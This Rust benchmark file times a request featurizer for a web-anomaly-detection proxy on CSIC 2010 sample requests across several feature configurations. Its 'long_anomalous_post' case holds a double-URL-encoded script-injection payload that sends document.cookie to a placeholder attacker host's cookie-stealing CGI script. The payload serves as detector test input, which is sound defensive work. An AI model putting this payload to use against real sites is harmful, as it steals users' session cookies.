//! Cost of featurizing one request on the proxy's hot path (`transform_into` with reused
//! buffers), for real CSIC 2010 requests: a typical GET, a typical POST, and a long, double-encoded
//! anomalous POST. The featurizer is fitted (top-500) on the in-repo CSIC sample; the same cases
//! also with configs/train-request-line.yaml's featurizer (character 1-3-grams, parameter-aware
//! tokens, the rarity table, sublinear tf, l2, top-3000), configs/train.yaml's (the same reading
//! the whole request), with the opt-in `value_shapes`, and with character
//! 3-5-grams + shapes + sublinear tf.
//!
//! `cargo bench --release -p featurizer --bench transform`
// criterion_group! defines an undocumented `pub fn` (workspace lint missing_docs).
#![allow(missing_docs)]
use criterion::{black_box, criterion_group, criterion_main, Criterion};
use featurizer::{Featurizer, FeaturizerConfig, RequestParts, Scratch, SparseVector};

const SAMPLE: &str = concat!(
    env!("CARGO_MANIFEST_DIR"),
    "/../data/sample/csic_normalTrafficTraining_sample.txt"
);

/// Request lines (target in origin form) and bodies of a CSIC file: just enough parsing for a
/// realistic vocabulary (the datasets crate is the real loader).
fn csic_requests(text: &str) -> Vec<(String, Option<String>)> {
    let mut out: Vec<(String, Option<String>)> = Vec::new();
    let mut in_body = false;
    for line in text.lines() {
        let line = line.trim_end_matches('\r');
        if let Some(rest) = line
            .strip_prefix("GET ")
            .or_else(|| line.strip_prefix("POST "))
        {
            let url = rest.rsplit_once(' ').map_or(rest, |(u, _)| u);
            let target = url.strip_prefix("http://localhost:8080").unwrap_or(url);
            out.push((target.to_owned(), None));
            in_body = false;
        } else if line.is_empty() {
            in_body = true;
        } else if in_body {
            if let Some(last) = out.last_mut() {
                last.1 = Some(line.to_owned());
            }
        }
    }
    out
}

fn bench(c: &mut Criterion) {
    let text = std::fs::read_to_string(SAMPLE).expect("data/sample CSIC file");
    let docs = csic_requests(&text);
    let f = Featurizer::fit(
        FeaturizerConfig::default(),
        docs.iter().map(|(t, b)| RequestParts {
            method: "GET",
            target: t.as_bytes(),
            body: b.as_deref().map(str::as_bytes),
            headers: Default::default(),
            excluded_fields: Default::default(),
        }),
    )
    .expect("fit");
    let cases: [(&str, RequestParts); 3] = [
        ("typical_get", RequestParts::get(
            "/tienda1/publico/anadir.jsp?id=3&nombre=Vino+Rioja&precio=100&cantidad=55&B1=A%F1adir+al+carrito",
        )),
        ("typical_post", RequestParts {
            method: "POST",
            target: b"/tienda1/publico/autenticar.jsp",
            body: Some(b"modo=entrar&login=choong&pwd=d1se3ci%F3n&remember=off&B1=Entrar"),
            headers: Default::default(), excluded_fields: Default::default(),
        }),
        ("long_anomalous_post", RequestParts {
            method: "POST",
            target: b"/tienda1/publico/autenticar.jsp",
            headers: Default::default(), excluded_fields: Default::default(),
            body: Some(concat!(
                "modo=sessionid%3D12312312%26+username%3D%253C%2573%2563%2572%2569%2570%2574%253E%2564%256F",
                "%2563%2575%256D%2565%256E%2574%252E%256C%256F%2563%2561%2574%2569%256F%256E%253D%2527%2568",
                "%2574%2574%2570%253A%252F%252F%2561%2574%2574%2561%2563%256B%2565%2572%2568%256F%2573%2574",
                "%252E%2565%2578%2561%256D%2570%256C%2565%252F%2563%2567%2569%252D%2562%2569%256E%252F%2563",
                "%256F%256F%256B%2569%2565%2573%2574%2565%2561%256C%252E%2563%2567%2569%253F%2527%252B%2564",
                "%256F%2563%2575%256D%2565%256E%2574%252E%2563%256F%256F%256B%2569%2565%253C%252F%2573+%2563",
                "%2572%2569%2570%2574%253E%3F&login=slaby&password=3a91io&nombre=Jam%F3n+Ib%E9rico&B1=Entrar"
            ).as_bytes()),
        }),
    ];
    // The opt-in feature families (lab/configs/improved.yaml uses value_shapes at top-500).
    let fit_with = |config: FeaturizerConfig| {
        Featurizer::fit(
            config,
            docs.iter().map(|(t, b)| RequestParts {
                method: "GET",
                target: t.as_bytes(),
                body: b.as_deref().map(str::as_bytes),
                headers: Default::default(),
                excluded_fields: Default::default(),
            }),
        )
        .expect("fit")
    };
    let shapes = fit_with(FeaturizerConfig {
        value_shapes: true,
        ..Default::default()
    });
    let chars = fit_with(FeaturizerConfig {
        top_k: 2000,
        char_ngrams: Some([3, 5]),
        value_shapes: true,
        sublinear_tf: true,
        ..Default::default()
    });
    // configs/train-request-line.yaml's featurizer.config (the issue-16 feature set, read from
    // the request line; configs/train.yaml until session 15).
    let train_yaml_config = FeaturizerConfig {
        top_k: 10000,
        char_ngrams: Some([1, 3]),
        sublinear_tf: true,
        params: true,
        rarity_min_count: Some(3),
        odd_permille: vec![10, 50],
        odd_shape_path: true,
        norm: featurizer::Norm::L2,
        ..Default::default()
    };
    let train_yaml = fit_with(train_yaml_config.clone());
    // configs/whole-request.yaml's featurizer.config (issue 17), without and with libinjection's
    // detectors run on every decoded part.
    let whole_request = |libinjection: bool| {
        fit_with(FeaturizerConfig {
            top_k: 500,
            value_shapes: true,
            sublinear_tf: true,
            placements: Some(featurizer::PlacementConfig::default()),
            libinjection,
            ..Default::default()
        })
    };
    let (placements, placements_li) = (whole_request(false), whole_request(true));
    // configs/train.yaml's featurizer.config (without its known browsers): the same families
    // with the whole request read (issue 17; the cases carry no headers, so this is the request line's cost).
    let train_whole_request = fit_with(FeaturizerConfig {
        placements: Some(featurizer::PlacementConfig {
            referer_as_url: true,
            opaque_tokens: true,
            request_line_whole: true,
            known_header_permille: Some(10),
            known_digit_runs: true,
            ..Default::default()
        }),
        libinjection: true,
        signatures: true,
        ..train_yaml_config
    });
    // Without the attack signatures (what they cost per request).
    let train_whole_request_no_signatures = fit_with(FeaturizerConfig {
        signatures: false,
        ..train_whole_request.config().clone()
    });
    // The same with CSIC's header set (constant values, a per-session cookie): fitted on the
    // sample with those headers, so the constant values are known (`known_header_permille`) as
    // they are for a bundle of configs/train.yaml; the case is typical_get with them.
    let csic_headers = |session: usize| -> Vec<(String, Vec<u8>)> {
        [
            ("User-Agent", "Mozilla/5.0 (compatible; Konqueror/3.5; Linux) KHTML/3.5.8 (like Gecko)".to_owned()),
            ("Pragma", "no-cache".to_owned()),
            ("Cache-control", "no-cache".to_owned()),
            ("Accept", "text/xml,application/xml,application/xhtml+xml,text/html;q=0.9,text/plain;q=0.8,image/png,*/*;q=0.5".to_owned()),
            ("Accept-Encoding", "x-gzip, x-deflate, gzip, deflate".to_owned()),
            ("Accept-Charset", "utf-8, utf-8;q=0.5, *;q=0.5".to_owned()),
            ("Accept-Language", "en".to_owned()),
            ("Host", "localhost:8080".to_owned()),
            ("Cookie", format!("JSESSIONID={:032X}", session.wrapping_mul(0x9E37_79B9_7F4A_7C15))),
            ("Connection", "close".to_owned()),
        ]
        .into_iter()
        .map(|(n, v)| (n.to_owned(), v.into_bytes()))
        .collect()
    };
    let fit_headers: Vec<Vec<(String, Vec<u8>)>> = (0..docs.len()).map(csic_headers).collect();
    let train_whole_request_headers = Featurizer::fit(
        train_whole_request.config().clone(),
        docs.iter()
            .zip(&fit_headers)
            .map(|((t, b), h)| RequestParts {
                method: "GET",
                target: t.as_bytes(),
                body: b.as_deref().map(str::as_bytes),
                headers: featurizer::Headers::Owned(h),
                excluded_fields: Default::default(),
            }),
    )
    .expect("fit");
    let case_headers = csic_headers(docs.len() + 1);
    let with_headers = RequestParts {
        headers: featurizer::Headers::Owned(&case_headers),
        ..cases[0].1
    };
    {
        let mut group = c.benchmark_group("transform_into_train_whole_request_csic_headers");
        let mut scratch = Scratch::default();
        let mut out = SparseVector::default();
        group.bench_function("typical_get", |b| {
            b.iter(|| {
                train_whole_request_headers.transform_into(
                    black_box(&with_headers),
                    &mut scratch,
                    &mut out,
                );
                black_box(out.indices.len())
            })
        });
        group.finish();
    }
    for (group_name, featurizer) in [
        ("transform_into_whole_request", &placements),
        ("transform_into_whole_request_libinjection", &placements_li),
        ("transform_into_train_yaml", &train_yaml),
        ("transform_into_train_whole_request", &train_whole_request),
        (
            "transform_into_train_whole_request_no_signatures",
            &train_whole_request_no_signatures,
        ),
        ("transform_into_value_shapes", &shapes),
        ("transform_into_char3to5_shapes_top2000", &chars),
    ] {
        let mut group = c.benchmark_group(group_name);
        for (name, req) in &cases {
            let mut scratch = Scratch::default();
            let mut out = SparseVector::default();
            group.bench_function(*name, |b| {
                b.iter(|| {
                    featurizer.transform_into(black_box(req), &mut scratch, &mut out);
                    black_box(out.indices.len())
                })
            });
        }
        group.finish();
    }
    let mut group = c.benchmark_group("transform_into");
    for (name, req) in &cases {
        let mut scratch = Scratch::default();
        let mut out = SparseVector::default();
        group.bench_function(*name, |b| {
            b.iter(|| {
                f.transform_into(black_box(req), &mut scratch, &mut out);
                black_box(out.indices.len())
            })
        });
    }
    group.finish();
    c.bench_function("transform_allocating/typical_get", |b| {
        b.iter(|| black_box(f.transform(black_box(&cases[0].1))))
    });
}

criterion_group!(benches, bench);
criterion_main!(benches);
